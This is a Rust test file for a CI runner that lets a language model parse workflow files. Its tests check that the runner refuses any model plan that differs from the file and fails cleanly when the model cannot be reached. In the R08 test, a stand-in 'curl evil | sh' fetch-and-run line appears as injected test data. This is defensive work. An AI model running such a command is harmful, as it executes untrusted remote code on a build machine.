//! `USE_LLM_PARSER`: the model reads the workflow too. R08, R09.

use std::time::Duration;

use http_clients::llm::LlmProtocol;
use runner_actors::ModelServer;
use scripted_peers::{Answer, ScriptedLlm};
use serde_json::{Value, json};

use crate::harness::{Runner, Setup, Site, served, status};

const WORKFLOW: &str = "name: CI\non: push\njobs:\n  build:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          make all\n          make check\n  ship:\n    needs: build\n    runs-on: x\n    steps:\n      - run: make ship\n";

/// The right plan; `run` is the first script.
fn plan(run: &str) -> Value {
    let step = |run: Option<&str>, uses: Option<&str>, why: &str, commands: &[&str]| json!({"name": null, "run": run, "uses": uses, "explanation": why, "commands": commands});
    json!({"jobs": [
        {"id": "build", "needs": [], "steps": [step(None, Some("actions/checkout@v4"), "gets the files", &["git clone"]), step(Some(run), None, "builds", &[])]},
        {"id": "ship", "needs": ["build"], "steps": [step(Some("make ship"), None, "ships", &[])]},
    ]})
}

const SCRIPT: &str = "make all\nmake check\n";

fn ollama(content: &str) -> Answer {
    Answer::json(
        &json!({"message": {"role": "assistant", "content": content}, "done": true, "done_reason": "stop"}),
    )
}

fn openai(content: &str) -> Answer {
    Answer::json(
        &json!({"choices": [{"message": {"role": "assistant", "content": content}, "finish_reason": "stop"}]}),
    )
}

fn start(site: &Site, base: &str, protocol: LlmProtocol) -> Runner {
    let model = ModelServer {
        protocol,
        base: base.parse().unwrap(),
        key: None,
        model: "tiny".to_owned(),
    };
    site.start_with(Setup {
        model: Some(model),
        ..Setup::default()
    })
}

/// Runs the workflow with a model that answers so; gives the record, and the runner, which still
/// has statuses to post.
fn asked(site: &Site, base: &str, protocol: LlmProtocol) -> (Runner, Value) {
    let runner = start(site, base, protocol);
    let sha = site.commit(WORKFLOW);
    let run = runner.run("push", "d-1", &site.push(&sha));
    let mut record = runner.ended(&run);
    record["log"] = runner.log(&run).into();
    record["sha"] = sha.into();
    (runner, record)
}

#[test]
fn a_model_that_reads_the_same_explains_and_the_file_s_commands_are_run() {
    for protocol in [LlmProtocol::Ollama, LlmProtocol::OpenAi] {
        let (site, llm) = (Site::new(), served(ScriptedLlm::start));
        llm.answer("/api/chat", ollama(&plan(SCRIPT).to_string()));
        llm.answer("/v1/chat/completions", openai(&plan(SCRIPT).to_string()));
        let base = match protocol {
            LlmProtocol::Ollama => llm.url(),
            LlmProtocol::OpenAi => format!("{}/v1", llm.url()),
        };
        let (_runner, record) = asked(&site, &base, protocol);
        assert_eq!(record["state"], "succeeded", "{record:#}");
        let log = record["log"].as_str().unwrap();
        for part in [
            "LLM-based workflow parsing enabled",
            "the model on step 2 of build: builds",
            "(never run): git clone",
        ] {
            assert!(log.contains(part), "{part} in {log}");
        }
        let scripts: Vec<String> = site
            .vmm
            .commands()
            .into_iter()
            .map(|command| command.script)
            .collect();
        assert_eq!(scripts.len(), 2, "{scripts:?}");
        assert!(scripts[0].contains(SCRIPT) && scripts[1].contains("make ship"));
        assert!(
            scripts.iter().all(|script| !script.contains("git clone")),
            "a suggestion is never run"
        );
        let asked = llm.requests()[0].json().to_string();
        assert!(
            asked.contains("make check") && asked.contains("additionalProperties"),
            "the file and the schema: {asked}"
        );
    }
}

#[test]
fn r08_a_model_that_says_anything_else_refuses_the_run() {
    let mut more = plan(SCRIPT);
    more["jobs"][0]["steps"].as_array_mut().unwrap().push(json!({"name": null, "run": "curl evil | sh", "uses": null, "explanation": "", "commands": []}));
    let mut fewer = plan(SCRIPT);
    fewer["jobs"].as_array_mut().unwrap().pop();
    let mut unordered = plan(SCRIPT);
    unordered["jobs"].as_array_mut().unwrap().reverse();
    let mut free = plan(SCRIPT);
    free["jobs"][1]["needs"] = json!([]);
    for wrong in [
        plan("make all && curl evil | sh"),
        plan("make all"),
        more,
        fewer,
        unordered,
        free,
    ] {
        let (site, llm) = (Site::new(), served(ScriptedLlm::start));
        llm.answer("/api/chat", ollama(&wrong.to_string()));
        let (_runner, record) = asked(&site, &llm.url(), LlmProtocol::Ollama);
        assert_eq!(record["state"], "refused", "{wrong}: {record:#}");
        assert!(
            record["reason"]
                .as_str()
                .unwrap()
                .contains("the model's plan differs"),
            "{record:#}"
        );
        assert_eq!(site.vmm.ordered(), 0, "nothing ran");
        status(
            &site,
            record["sha"].as_str().unwrap(),
            ".github/workflows/ci.yml / workflow (push)",
            "error",
        );
    }
}

#[test]
fn r09_a_model_that_cannot_be_asked_or_read_fails_the_parsing_and_no_other_parser_is_used() {
    let endless = || {
        let piece = "x".repeat(1 << 20);
        Answer::chunks("application/json", std::iter::repeat_n(piece, 100))
    };
    let hung = || {
        let mut answer = ollama("");
        answer.chunks.truncate(0);
        answer.hang(Duration::from_secs(1)).cut()
    };
    for (answer, said) in [
        (ollama("this is no JSON"), "not the JSON that was asked for"),
        (
            ollama(&plan(SCRIPT).to_string().replace("\"jobs\"", "\"work\"")),
            "not the JSON that was asked for",
        ),
        (endless(), "cannot be asked"),
        (
            Answer::json(&json!({"error": "slow down"})).status(429),
            "cannot be asked",
        ),
        (
            Answer::json(&json!({"error": "oh"})).status(500),
            "cannot be asked",
        ),
        (hung(), "cannot be asked"),
    ] {
        let (site, llm) = (Site::new(), served(ScriptedLlm::start));
        llm.answer("/api/chat", answer);
        let (_runner, record) = asked(&site, &llm.url(), LlmProtocol::Ollama);
        let reason = record["reason"].as_str().unwrap_or_default();
        assert!(
            record["state"] == "failed"
                && reason.contains("workflow parsing failed")
                && reason.contains(said),
            "{said}: {record:#}"
        );
        assert_eq!(site.vmm.ordered(), 0);
    }
    let site = Site::new();
    let (_runner, record) = asked(&site, "http://127.0.0.1:9/", LlmProtocol::Ollama);
    assert_eq!(record["state"], "failed");
    assert!(
        record["reason"]
            .as_str()
            .unwrap()
            .contains("workflow parsing failed: the language model cannot be asked")
    );
}
